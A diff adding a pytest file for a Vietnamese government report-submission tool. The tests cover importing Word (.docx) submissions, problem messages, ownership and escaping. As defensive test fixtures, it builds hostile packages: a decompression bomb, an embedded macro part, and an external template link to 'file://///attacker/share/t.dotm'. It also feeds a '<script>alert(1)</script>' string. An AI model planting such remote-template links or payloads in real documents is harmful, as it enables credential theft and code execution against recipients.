@@ -1,0 +1,218 @@
+"""A Word file is a submission (issue 17, part 2): `submissions/<agency-id>.docx` is read
+through the importer into the same model; problems name places a Word user can find; the
+package is untrusted; ownership and the job summary treat it like a `.md` report."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from baocao import reporters
+from baocao.campaign import load_campaign
+from baocao.cli import main
+from baocao.ownership import changed_file_problems, codeowners
+from baocao.workspace import load_round
+from conftest import ROOT
+from wordmaker import add_part, word_report
+
+
+@pytest.fixture
+def word_ws(workspace: Path) -> Path:
+    word_report(load_campaign(workspace), "bo-y-te", workspace / "submissions" / "bo-y-te.docx")
+    return workspace
+
+
+def lines_of(capsys) -> list[str]:
+    return capsys.readouterr().out.splitlines()
+
+
+def test_a_word_file_is_a_report_of_the_round(word_ws):
+    rnd = load_round(word_ws)
+    report = rnd.report("bo-y-te")
+    assert report.submission.file == "submissions/bo-y-te.docx"
+    assert report.status == "on_time" and report.ratio == 1.0  # signed: an issued report
+    assert report.problems == []
+    assert report.submission.meta["so_ky_hieu"] == "125/BC-TE"
+    assert report.submission.meta["ngay_ban_hanh"] == "03/12/2024"
+    assert report.submission.meta["lien_he"] == {
+        "ho_ten": "Trần Thị Bình",
+        "dien_thoai": "0982.190.626",
+        "email": "binh@example.gov.vn",
+    }
+    assert report.submission.meta["nguoi_ky"] == {
+        "ho_ten": "Nguyễn Văn An",
+        "chuc_vu": "KT. BỘ TRƯỞNG / THỨ TRƯỞNG",
+    }
+    first = report.parts[2]
+    assert first.content.startswith("Nội dung mục")
+
+
+def test_problems_name_the_place_in_the_word_file_not_a_line(word_ws, capsys):
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    extra = {4: ["Đoạn thứ hai.", "# Mục tự đặt", "Đoạn dưới mục tự đặt."]}
+    word_report(load_campaign(word_ws), "bo-y-te", path, extra=extra)
+    assert main(["--root", str(word_ws), "check"]) == 0
+    out = capsys.readouterr().out.splitlines()
+    assert out[0] == (
+        'submissions/bo-y-te.docx: cảnh báo: Phần 1, mục II.2, tiêu đề "Mục tự đặt": Tiêu đề "Mục tự đặt" không khớp mục nào trong đề cương của cơ quan. Nội dung dưới tiêu đề này được tính vào mục "2. Chủ trì, phối hợp với Bộ Công Thương trong việc tăng cường công tác trao đổi, tiếp…".'
+    )
+    assert main(["--root", str(word_ws), "check", "--format", "github"]) == 0
+    annotations = capsys.readouterr().out.splitlines()
+    assert annotations[0].startswith(
+        '::warning file=submissions/bo-y-te.docx,title=Tiêu đề::Phần 1, mục II.2, tiêu đề "Mục tự đặt": '
+    )
+    assert all("line=" not in a for a in annotations)  # on the file: a .docx has no lines
+
+
+def test_a_signed_report_without_contact_is_an_error_saying_what_to_write(word_ws, capsys):
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    word_report(load_campaign(word_ws), "bo-y-te", path, contact=False)
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert capsys.readouterr().out.splitlines()[0] == (
+        'submissions/bo-y-te.docx: lỗi: Chưa có người liên hệ. Ở cuối văn bản thêm một dòng như "Người liên hệ: Trần Thị Bình, điện thoại 0982.190.626, thư điện tử binh@example.gov.vn".'
+    )
+
+
+def test_both_a_md_and_a_docx_for_one_agency_is_an_error(word_ws, capsys):
+    shutil.copy(ROOT / "submissions" / "bo-cong-an.md", word_ws / "submissions" / "bo-cong-an.md")
+    word_report(load_campaign(word_ws), "bo-cong-an", word_ws / "submissions" / "bo-cong-an.docx")
+    assert main(["--root", str(word_ws), "check"]) == 1
+    out = capsys.readouterr().out
+    assert (
+        "submissions/bo-cong-an.docx: lỗi: Cơ quan có cả tệp bo-cong-an.docx và tệp bo-cong-an.md; "
+        "mỗi cơ quan chỉ nộp một tệp báo cáo. Xóa một trong hai tệp (tệp bo-cong-an.docx chưa được đọc)."
+    ) in out
+    assert load_round(word_ws).report("bo-cong-an").submission.file == "submissions/bo-cong-an.md"
+
+
+def test_a_docx_named_after_no_agency_is_an_error(word_ws, capsys):
+    shutil.copy(word_ws / "submissions" / "bo-y-te.docx", word_ws / "submissions" / "bao-cao.docx")
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert (
+        'submissions/bao-cao.docx: lỗi: Tên tệp "bao-cao.docx" không phải mã của cơ quan nào trong đợt báo cáo.'
+        in capsys.readouterr().out
+    )
+
+
+def _bomb(path: Path) -> None:
+    add_part(path, "word/media/zeros.bin", b"\0" * (30 * 1024 * 1024))
+
+
+def _macro(path: Path) -> None:
+    add_part(path, "word/vbaProject.bin", b"macro")
+
+
+def _external(path: Path) -> None:
+    with zipfile.ZipFile(path) as package:
+        rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
+    link = (
+        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/attachedTemplate" Target="file://///attacker/share/t.dotm" TargetMode="External"/>'
+    )
+    add_part(
+        path,
+        "word/_rels/document.xml.rels",
+        rels.replace("</Relationships>", link + "</Relationships>").encode("utf-8"),
+    )
+
+
+@pytest.mark.parametrize(
+    ("spoil", "message"),
+    [
+        (
+            _bomb,
+            "bo-y-te.docx: tệp Word giải nén ra quá lớn (30,8 MB); không đọc tệp này. Hãy lưu lại bằng Word dưới dạng .docx.",
+        ),
+        (
+            _macro,
+            "bo-y-te.docx: tệp Word có macro hoặc điều khiển ActiveX; không nhận tệp loại này. Hãy lưu lại dưới dạng Word Document (*.docx), không phải .docm.",
+        ),
+        (
+            _external,
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+    ],
+)
+def test_an_untrusted_package_is_refused_with_a_reason(word_ws, capsys, spoil, message):
+    spoil(word_ws / "submissions" / "bo-y-te.docx")
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert f"submissions/bo-y-te.docx: lỗi: {message}" in capsys.readouterr().out
+    assert load_round(word_ws).report("bo-y-te").status == "invalid"
+
+
+def test_a_file_too_large_is_refused(word_ws, capsys):
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    with open(path, "ab") as handle:  # zip readers find the directory from the end
+        handle.truncate(21 * 1024 * 1024)
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert "tệp Word quá lớn (21,0 MB, tối đa 20,0 MB)" in capsys.readouterr().out
+
+
+def test_changed_list_checks_a_docx_like_a_md(word_ws, capsys):
+    listing = word_ws / "changed.txt"
+    listing.write_text("submissions/bo-y-te.docx\n", encoding="utf-8")
+    assert (
+        main(["--root", str(word_ws), "check", "--changed-list", str(listing), "--format", "json"])
+        == 0
+    )
+    data = json.loads(capsys.readouterr().out)
+    assert [a["file"] for a in data["agencies"]] == ["submissions/bo-y-te.docx"]
+
+
+def test_ownership_applies_to_docx_as_to_md(campaign):
+    account = "@nguyenvanmau-bca"  # an account of bo-cong-an
+    assert changed_file_problems(campaign, ["submissions/bo-cong-an.docx"], account) == []
+    [problem] = changed_file_problems(campaign, ["submissions/ubnd-ha-noi.docx"], account)
+    assert problem.code == "ownership"
+    assert "báo cáo của Ủy ban nhân dân thành phố Hà Nội" in problem.message
+    assert "/submissions/bo-cong-an.docx @baocao-319/bo-cong-an" in codeowners(campaign)
+
+
+def test_job_summary_shows_the_word_report_as_text_escaped(word_ws):
+    word_report(
+        load_campaign(word_ws),
+        "bo-y-te",
+        word_ws / "submissions" / "bo-y-te.docx",
+        extra={0: ["Dòng có ```` bốn dấu và <script>alert(1)</script>."]},
+    )
+    rnd = load_round(word_ws)
+    summary = reporters.markdown(rnd, rnd.problems)
+    start = summary.index(
+        "<details><summary>Nội dung tệp Word bo-y-te.docx (chuyển thành văn bản)</summary>"
+    )
+    block = summary[start:]
+    assert "\n```text\n" in block  # fenced: nothing of the report is read as Markdown
+    assert "[Đã viết] PHẦN 1. KẾT QUẢ THỰC HIỆN ĐỀ ÁN" in block
+    assert "Dòng có \\`\\`\\`\\` bốn dấu và \\<script\\>alert(1)\\</script\\>." in block
+    assert block.count("\n```\n") == 1
+
+
+@pytest.mark.slow
+def test_the_site_and_the_docx_show_a_word_report(word_ws, tmp_path):
+    from docx import Document
+
+    from baocao.docx import build_docx
+    from baocao.site.build import build_site
+
+    shutil.copy(ROOT / "mkdocs.yml", word_ws / "mkdocs.yml")
+    shutil.copytree(ROOT / "docs", word_ws / "docs")
+    word_report(
+        load_campaign(word_ws),
+        "bo-y-te",
+        word_ws / "submissions" / "bo-y-te.docx",
+        extra={1: ["a) Điểm a;", "đ) Điểm đ;", "e) Điểm e.", "3. Điểm ba, gõ tay trong Word."]},
+    )
+    rnd = load_round(word_ws)
+    site = build_site(rnd, tmp_path / "site")
+    page = (site / "co-quan" / "bo-y-te" / "index.html").read_text(encoding="utf-8")
+    assert "<code>submissions/bo-y-te.docx</code>" in page
+    assert "<p>đ) Điểm đ;</p>" in page
+    assert "<p>3. Điểm ba, gõ tay trong Word.</p>" in page  # not "\3." nor a list renumbered
+    merged = build_docx(rnd, tmp_path / "tong-hop.docx")
+    texts = [p.text for p in Document(str(merged)).paragraphs]
+    assert "đ) Điểm đ;" in texts and "e) Điểm e." in texts
+    assert "3. Điểm ba, gõ tay trong Word." in texts
